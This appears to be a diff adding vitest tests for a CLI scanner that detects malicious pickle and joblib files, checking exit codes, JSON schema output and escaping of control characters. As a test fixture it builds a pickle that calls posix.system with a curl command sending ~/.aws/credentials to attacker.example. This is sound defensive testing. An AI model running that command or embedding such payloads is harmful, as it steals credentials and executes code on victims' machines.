@@ -1,0 +1,145 @@
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import Ajv from 'ajv';
+import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
+import packageJson from '../../package.json' with { type: 'json' };
+import { VERSION } from '../../shared/version';
+import { assemble } from '../engine/testing/assemble';
+import { main } from './program';
+
+const COMMAND = 'curl https://attacker.example?data=$(cat ~/.aws/credentials)';
+const benign = assemble(['PROTO', 4], ['EMPTY_LIST'], ['MEMOIZE'], ['BININT1', 1], ['APPEND'], ['STOP']);
+const attack = assemble(
+  ['PROTO', 4],
+  ['SHORT_BINUNICODE', 'posix'],
+  ['MEMOIZE'],
+  ['SHORT_BINUNICODE', 'system'],
+  ['MEMOIZE'],
+  ['STACK_GLOBAL'],
+  ['MEMOIZE'],
+  ['SHORT_BINUNICODE', COMMAND],
+  ['MEMOIZE'],
+  ['TUPLE1'],
+  ['REDUCE'],
+  ['STOP'],
+);
+
+let folder = '';
+const file = (name: string) => path.join(folder, name);
+
+beforeAll(() => {
+  folder = mkdtempSync(path.join(os.tmpdir(), 'cuvette-cli-'));
+  writeFileSync(file('benign.pkl'), benign);
+  writeFileSync(file('attack.joblib'), attack);
+  writeFileSync(file('cut.pkl'), benign.subarray(0, benign.length - 1));
+  writeFileSync(file('unknown.pkl'), assemble(['GLOBAL', 'some.pkg\nThing'], ['STOP']));
+  mkdirSync(file('many/inner'), { recursive: true });
+  for (let i = 0; i < 300; i++) writeFileSync(file(`many/${i % 2 ? 'inner/' : ''}${i}.pkl`), benign);
+  symlinkSync(file('attack.joblib'), file('many/link.pkl'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+afterEach(() => vi.restoreAllMocks());
+
+/** Runs the program in this process and collects what it prints. */
+async function cuvette(...args: string[]): Promise<{ code: number; out: string; err: string }> {
+  let out = '';
+  let err = '';
+  vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
+    out += String(text);
+    return true;
+  });
+  vi.spyOn(process.stderr, 'write').mockImplementation((text) => {
+    err += String(text);
+    return true;
+  });
+  const code = await main(args);
+  vi.restoreAllMocks();
+  return { code, out, err };
+}
+
+const schema = () => JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../../docs/scan.schema.json'), 'utf8'));
+
+describe('cuvette scan', () => {
+  test('exit codes: no findings, dangerous, suspicious, inconclusive, bad usage', async () => {
+    expect((await cuvette('scan', file('benign.pkl'))).code).toBe(0);
+    expect((await cuvette('scan', file('attack.joblib'))).code).toBe(1);
+    expect((await cuvette('scan', file('unknown.pkl'))).code).toBe(1);
+    expect((await cuvette('scan', file('cut.pkl'))).code).toBe(2);
+    expect((await cuvette('scan', file('cut.pkl'), file('attack.joblib'))).code).toBe(1);
+    expect((await cuvette('scan')).code).toBe(64);
+    expect((await cuvette('scan', '--nonsense', file('benign.pkl'))).code).toBe(64);
+  });
+
+  test('the JSON document keeps the published schema and shows the command', async () => {
+    const { out } = await cuvette(
+      'scan',
+      '--json',
+      file('benign.pkl'),
+      file('attack.joblib'),
+      file('cut.pkl'),
+      file('missing.pkl'),
+    );
+    const document = JSON.parse(out);
+    const validate = new Ajv({ strict: false }).compile(schema());
+    expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
+    expect(validate({ ...document, schemaVersion: 2 })).toBe(false);
+    expect(validate({ ...document, artifacts: [{ ...document.artifacts[0], verdict: 'safe' }] })).toBe(false);
+    expect(document.summary).toEqual({ dangerous: 1, suspicious: 0, noFindings: 1, inconclusive: 2 });
+    const found = document.artifacts[1];
+    expect(found.verdict).toBe('dangerous');
+    expect(found.findings[0].message).toContain(COMMAND);
+    expect(found.calls).toEqual([
+      expect.objectContaining({ callee: 'posix.system', arguments: `('${COMMAND}',)`, byteOffset: attack.length - 2 }),
+    ]);
+    expect(found.digests.sha256).toMatch(/^[0-9a-f]{64}$/);
+    expect(document.artifacts[3]).toMatchObject({ verdict: 'inconclusive', error: { code: 'notFound' } });
+  });
+
+  test('a folder streams as one line a file, in order, links not followed', async () => {
+    const { out, code } = await cuvette('scan', '--ndjson', '--recursive', file('many'));
+    const lines = out
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    expect(code).toBe(0);
+    expect(lines).toHaveLength(300);
+    expect(lines.every((line) => line.verdict === 'no-findings')).toBe(true);
+    expect(new Set(lines.map((line) => line.path)).size).toBe(300);
+  });
+
+  test('an unreadable path is inconclusive with its reason and does not stop the rest', async () => {
+    writeFileSync(file('locked.pkl'), benign);
+    chmodSync(file('locked.pkl'), 0);
+    const { out, code } = await cuvette('scan', '--json', file('missing.pkl'), file('many'), file('benign.pkl'));
+    const { artifacts } = JSON.parse(out);
+    expect(artifacts.map((artifact: { verdict: string }) => artifact.verdict)).toEqual([
+      'inconclusive',
+      'inconclusive',
+      'no-findings',
+    ]);
+    expect(artifacts[1].error.message).toContain('--recursive');
+    expect(code).toBe(2);
+  });
+
+  test('people get the verdict, the command and no control characters of the file', async () => {
+    writeFileSync(
+      file('tricky.pkl'),
+      assemble(['GLOBAL', 'os\nsystem'], ['UNICODE', 'echo \\u001b[2J\\u202e hi'], ['TUPLE1'], ['REDUCE'], ['STOP']),
+    );
+    const { out } = await cuvette('scan', '--no-color', file('tricky.pkl'));
+    expect(out).toContain('⬣ Dangerous');
+    expect(out).toContain('echo \\x1b[2J\\u202e hi');
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there
+    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
+    const { out: calm } = await cuvette('scan', '--no-color', file('benign.pkl'));
+    expect(calm).toContain('● No findings');
+    expect(calm.toLowerCase()).not.toContain('safe');
+  });
+
+  test('help and version', async () => {
+    expect((await cuvette('--help')).out).toContain('cuvette scan');
+    expect((await cuvette('--version')).out).toContain(VERSION);
+    expect(VERSION).toBe(packageJson.version);
+  });
+});
